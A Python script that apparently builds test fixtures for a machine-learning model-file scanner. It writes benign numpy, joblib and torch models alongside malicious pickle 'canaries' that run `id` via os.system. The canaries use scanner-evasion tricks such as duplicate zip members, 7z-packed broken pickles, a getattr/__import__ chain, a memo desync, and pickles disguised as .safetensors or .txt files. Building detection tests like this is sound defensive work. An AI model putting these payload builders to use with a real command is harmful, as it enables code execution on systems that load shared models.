#!/usr/bin/python3
"""Writes the samples beside this file: good models by the real libraries, and canaries in hostile shapes.

    /usr/bin/python3 samples/make_samples.py           write samples/good, samples/hostile and samples/expected.tsv
    /usr/bin/python3 samples/make_samples.py --prove   load every canary in a process of its own and show that it runs

Needs Debian's python3-numpy, python3-joblib, python3-sklearn, python3-torch and 7zip or p7zip-full. With the same packages
it writes the same bytes every time. A canary does one thing when a loader reaches it: it runs the command `id`.
"""
import gzip
import io
import os
import pickle
import re
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import warnings
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
GOOD = HERE / "good"
HOSTILE = HERE / "hostile"
COMMAND = b"id"
STAMP = (1980, 1, 1, 0, 0, 0)
expected = []


class Canary:
    """Pickles as a call of os.system, the way a careless tutorial shows it."""

    def __reduce__(self):
        return os.system, (COMMAND.decode(),)


def write(folder, name, data, verdict):
    (folder / name).write_bytes(data)
    expected.append((f"{folder.name}/{name}", verdict))


def good(name, data):
    write(GOOD, name, data, "passed")


def hostile(name, data, verdict="malicious"):
    write(HOSTILE, name, data, verdict)


def short(text):
    """SHORT_BINUNICODE: a string, one length byte."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


# The smallest live payload in protocol 2: GLOBAL os.system, the command, TUPLE1, REDUCE.
CALL = b"cos\nsystem\nX" + struct.pack("<I", len(COMMAND)) + COMMAND + b"\x85R"


def zip_of(members, method=zipfile.ZIP_STORED):
    """A zip with fixed times; a name may stand in it twice."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name, STAMP), data)
    return buffer.getvalue()


def saved(save):
    """The bytes of what a library writes to a file, with the clock held still for those that store a time."""
    localtime, now = time.localtime, time.time
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "model")
        time.localtime = lambda *_: time.struct_time((*STAMP, 0, 1, 0))
        time.time = lambda: 315532800.0
        try:
            save(path)
        finally:
            time.localtime, time.time = localtime, now
        return Path(path).read_bytes()


def plain_pickles():
    model = {
        "name": "bag of words",
        "version": 3,
        "classes": ["ham", "spam"],
        "weights": {"money": 1.25, "meeting": -0.5, "os.system": 0.0, "eval(": 0.125},
        "trained": True,
        "bias": None,
        "shape": (4, 2),
        "blob": b"\x00\x01\xfe\xff",
    }
    for protocol in (0, 2, 4, 5):
        good(f"plain_protocol{protocol}.pkl", pickle.dumps(model, protocol))


def numpy_files():
    import numpy

    def npz(path):
        numpy.savez(path + ".npz", weights=numpy.arange(12, dtype="<f4").reshape(3, 4), bias=numpy.zeros(4, "<f8"))
        os.rename(path + ".npz", path)

    def array(value):
        buffer = io.BytesIO()
        numpy.save(buffer, value, allow_pickle=True)
        return buffer.getvalue()

    good("weights.npy", array(numpy.linspace(0, 1, 64, dtype="<f4").reshape(8, 8)))
    good("weights.npz", saved(npz))
    good("labels_object.npy", array(numpy.array(["ham", "spam", None, 3], dtype=object)))
    hostile("object_array.npy", array(numpy.array([Canary()], dtype=object)))


def joblib_files():
    import joblib
    import numpy
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    x = numpy.array([[0.0, 1.0], [1.0, 1.0], [2.0, 0.0], [3.0, 0.0]])
    model = make_pipeline(StandardScaler(), LogisticRegression(solver="liblinear", random_state=0)).fit(x, [0, 0, 1, 1])
    good("pipeline.joblib", saved(lambda path: joblib.dump(model, path)))
    good("pipeline_zlib.joblib", saved(lambda path: joblib.dump(model, path, compress=("zlib", 3))))
    good("pipeline_xz.joblib", saved(lambda path: joblib.dump(model, path, compress=("xz", 3))))
    plain = io.BytesIO()
    joblib.dump({"model": Canary()}, plain)
    hostile("gzip_joblib.joblib", gzip.compress(plain.getvalue(), 9, mtime=0))


def torch_files():
    import torch

    layer = torch.nn.Linear(4, 2)
    with torch.no_grad():
        layer.weight.copy_(torch.arange(8.0).reshape(2, 4) / 8)
        layer.bias.zero_()
    state = layer.state_dict()
    modern = saved(lambda path: torch.save(state, path))
    legacy = without_addresses(saved(lambda path: torch.save(state, path, _use_new_zipfile_serialization=False)))
    good("state_dict.pt", modern)
    good("state_dict_legacy.pt", legacy)

    # Two members named data.pkl: the first does harm, the last is the real one. Python's zipfile opens the last, other readers
    # open the first.
    with zipfile.ZipFile(io.BytesIO(modern)) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    pickles = [name for name, _ in members if name.endswith("/data.pkl")]
    hostile("torch_duplicate_data.pt", zip_of([(pickles[0], b"\x80\x02" + CALL + b".")] + members))

    # The legacy format is five pickles one after the other; the fourth is the model. A reader that stops at the first STOP sees
    # a harmless number.
    offsets, stream = [], io.BytesIO(legacy)
    for _ in range(3):
        pickle.load(stream)
        offsets.append(stream.tell())
    hostile("torch_legacy_fourth.pt", legacy[:offsets[2]] + b"\x80\x02" + CALL + b"." + pickle.dumps([], 2))

    hostile("nullifai_twin.pt", seven_zip(members, pickles[0]))


def without_addresses(legacy):
    """The legacy format names storages by their address in memory; other digits of the same length are as good."""
    stream = io.BytesIO(legacy)
    for _ in range(3):
        pickle.load(stream)
    keys = sorted(set(re.findall(rb"[0-9]{9,}", legacy[stream.tell():])))
    for number, key in enumerate(keys, 1):
        legacy = legacy.replace(key, b"%0*d" % (len(key), number))
    return legacy


def seven_zip(members, pickle_name):
    """A PyTorch file packed by 7z instead of zip, whose pickle breaks right after its call: shown by ReversingLabs in 2025."""
    broken = b"\x80\x02" + CALL + b"\xffbroken from here on"
    program = shutil.which("7z") or shutil.which("7zz") or shutil.which("7za")
    if program is None:
        sys.exit("7z is not there: install 7zip or p7zip-full")
    with tempfile.TemporaryDirectory() as folder:
        names = []
        for name, data in members:
            path = Path(folder, name)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(broken if name == pickle_name else data)
            path.chmod(0o644)
            os.utime(path, (315532800, 315532800))
            names.append(name)
        subprocess.run([program, "a", "-t7z", "-mx=5", "-mmt=off", "-mtc=off", "-mta=off", "model.7z", *names], cwd=folder,
                       check=True, stdout=subprocess.DEVNULL)
        return Path(folder, "model.7z").read_bytes()


def tar_of(members):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 315532800
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def canaries():
    system = short("os") + short("system") + b"\x93"
    run = short(COMMAND.decode()) + b"\x85R"
    hostile("os_system_reduce.pkl", b"\x80\x02" + CALL + b".")
    hostile("inst_protocol0.pkl", b"(S'" + COMMAND + b"'\nios\nsystem\n.")
    # pathlib imports os, so a loader of protocol 4 walks from the one to the other: the module that is named is not the one
    # that acts.
    hostile("dotted_walk.pkl", b"\x80\x04" + short("pathlib") + short("os.system") + b"\x93" + run + b".")
    # MEMOIZE takes the number of entries in use as its index, not the highest index plus one. After PUT 4 the two differ.
    hostile("memo_desync.pkl", b"\x80\x04" + short("collections") + b"q\x040" + short("os") + b"\x940" + short("system")
            + b"\x940h\x01h\x02\x93" + run + b".")
    # C reads INT with base 0, so 0x1f is a number; stricter parsers give up here, before the call.
    hostile("int_base0.pkl", b"I0x1f\n0cos\nsystem\n(S'" + COMMAND + b"'\ntR.")
    hostile("second_pickle.pkl", pickle.dumps({"epoch": 7}, 2) + b"\x80\x02" + CALL + b".")
    hostile("getattr_chain.pkl", b"\x80\x04" + short("builtins") + short("getattr") + b"\x93" + short("builtins")
            + short("__import__") + b"\x93" + short("os") + b"\x85R" + short("system") + b"\x86R" + run + b".")
    hostile("broken_after_call.pkl", b"\x80\x04" + system + run + b"\xff")
    hostile("weights.safetensors", b"\x80\x04" + system + run + b".")
    hostile("notes.txt", b"cos\nsystem\n(S'" + COMMAND + b"'\ntR.")
    number = pickle.dumps(0, 2)
    hostile("torch_tar.pt", tar_of([("sys_info", pickle.dumps({"protocol_version": 1000}, 2)), ("storages", number + pickle.dumps([], 2)),
                                    ("tensors", number), ("pickle", b"\x80\x02" + CALL + b".")]))


PROOFS = {
    ".npy": "import numpy; numpy.load(path, allow_pickle=True)",
    ".joblib": "import joblib; joblib.load(path)",
    "second_pickle.pkl": "import pickle; f = open(path, 'rb'); pickle.load(f); pickle.load(f)",
    "torch_duplicate_data.pt": "import pickle, zipfile; z = zipfile.ZipFile(path); pickle.loads(z.read(z.infolist()[0]))",
    "nullifai_twin.pt": "import pickle, subprocess; "
                        "pickle.loads(subprocess.run(['7z', 'e', '-so', path, '-r', 'data.pkl'], capture_output=True).stdout)",
    "torch_legacy_fourth.pt": "import torch; torch.load(path)",
    "torch_tar.pt": "import torch; torch.load(path)",
}


def prove():
    """Loads every canary, each in its own process, and looks for the output of `id`."""
    dead = []
    for path in sorted(HOSTILE.iterdir()):
        code = PROOFS.get(path.name) or PROOFS.get(path.suffix) or "import pickle; pickle.load(open(path, 'rb'))"
        ran = subprocess.run([sys.executable, "-c", f"path = {str(path)!r}; {code}"], capture_output=True, text=True)
        alive = "uid=" in ran.stdout
        print(f"{'runs' if alive else 'DEAD'}  {path.name}")
        if not alive:
            dead.append(path.name)
            print(ran.stderr[-300:])
    sys.exit(1 if dead else 0)


def main():
    if sys.argv[1:] == ["--prove"]:
        prove()
    for folder in (GOOD, HOSTILE):
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir(parents=True)
    plain_pickles()
    numpy_files()
    joblib_files()
    torch_files()
    canaries()
    rows = "".join(f"{name}\t{verdict}\n" for name, verdict in sorted(expected))
    (HERE / "expected.tsv").write_text("file\tverdict\n" + rows, encoding="ascii", newline="\n")


if __name__ == "__main__":
    main()
